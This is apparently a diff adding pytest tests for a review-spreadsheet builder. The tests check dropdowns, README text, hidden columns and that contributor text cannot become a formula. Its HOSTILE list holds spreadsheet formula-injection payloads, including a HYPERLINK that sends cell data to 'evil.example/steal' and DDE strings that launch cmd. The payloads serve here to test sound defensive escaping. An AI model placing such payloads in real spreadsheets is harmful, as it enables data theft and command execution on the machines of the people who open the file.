@@ -1,0 +1,102 @@
+"""review.xlsx: dropdowns, README, reviewer cell, and no formula from contributor text."""
+
+from __future__ import annotations
+
+from hypothesis import given, strategies as st
+from openpyxl import load_workbook
+
+from pipeline.report.build import build_report
+from pipeline.review.cells import DANGEROUS_FIRST, neutralise, restore_text
+from pipeline.review.sheet import read_review_sheet, sheet_has_reviewer_input
+
+HOSTILE = ['=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")', "+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "\tTabbed =1+1 text"]
+
+
+def _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for):
+    inp = make_input()
+    result = build_report(inp, encode_tfidf, settings_for(), tmp_path, find_sentences=finder)
+    return inp, result, result.paths["review"]
+
+
+def test_no_formula_anywhere_and_hostile_text_neutralised(tmp_path, make_input, finder,
+                                                          encode_tfidf, settings_for):
+    _, _, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
+    wb = load_workbook(path)  # formulas would load as data_type "f"
+    seen = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(DANGEROUS_FIRST), (ws.title,
+                                                                       cell.coordinate)
+                    seen.append(cell.value)
+    for text in HOSTILE:
+        assert "'" + text in seen
+    assert "'=HYPERLINK(\"http://evil.example/\",\"click\")" not in seen  # organisation not listed
+    # and the raw XML holds no <f> element at all
+    import zipfile
+
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)
+
+
+def test_reading_back_restores_the_exact_text(tmp_path, make_input, finder, encode_tfidf,
+                                              settings_for):
+    inp, _, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
+    sheet = read_review_sheet(path)
+    texts = {r.get("paragraph_id"): r.get("text") for r in sheet.paragraphs}
+    for cp in inp.paragraphs:
+        assert texts[cp.para.paragraph_id] == cp.para.text
+    assert len(sheet.groups) > 5 and sheet.reviewer is None
+    assert not sheet_has_reviewer_input(path)
+
+
+def test_dropdowns_readme_hidden_helpers(tmp_path, make_input, finder, encode_tfidf,
+                                         settings_for):
+    _, result, path = _sheet(tmp_path, make_input, finder, encode_tfidf, settings_for)
+    wb = load_workbook(path)
+    assert wb.sheetnames[:3] == ["README", "Groups", "Paragraphs"]
+    assert wb["Lists"].sheet_state == "hidden"
+    readme_text = " ".join(str(c.value) for row in wb["README"].iter_rows() for c in row
+                           if c.value)
+    for word in ("accept", "reject", "relabel", "merge", "cenb review apply"):
+        assert word in readme_text
+    assert wb["README"]["A4"].value == "Reviewer name"
+    for name in ("Groups", "Paragraphs"):
+        ws = wb[name]
+        header = [c.value for c in ws[1]]
+        for col in ("decision", "relabel_to", "merge_into", "comment"):
+            assert col in header
+        dvs = ws.data_validations.dataValidation
+        formulas = {dv.formula1 for dv in dvs}
+        assert '"accept,reject,relabel,merge"' in formulas
+        assert any(f.startswith("Lists!$A$2:$A$17") for f in formulas)
+        ranges = " ".join(str(dv.sqref) for dv in dvs)
+        letter = lambda c: chr(ord("A") + header.index(c))  # noqa: E731
+        assert letter("decision") in ranges and letter("relabel_to") in ranges
+        hidden = [k for k, d in ws.column_dimensions.items() if d.hidden]
+        assert letter("check") in hidden and letter("prefill") in hidden
+    keys = [wb["Lists"].cell(row=r, column=1).value for r in range(2, 18)]
+    from pipeline.taxonomy_keys import CHALLENGE_KEYS
+
+    assert tuple(keys) == CHALLENGE_KEYS
+    assert wb["Groups"].max_row == len(result.grouping.groups) + 1
+
+
+@given(st.text(max_size=60))
+def test_neutralise_round_trip(text):
+    safe = neutralise(text)
+    assert not safe.startswith(DANGEROUS_FIRST)
+    # illegal XML characters are replaced; everything else comes back exactly
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    assert restore_text(safe) == ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
+
+
+def test_numbers_stay_numbers():
+    assert neutralise(3) == 3 and neutralise(0.5) == 0.5 and neutralise(None) is None
+    assert neutralise("-3") == "'-3"
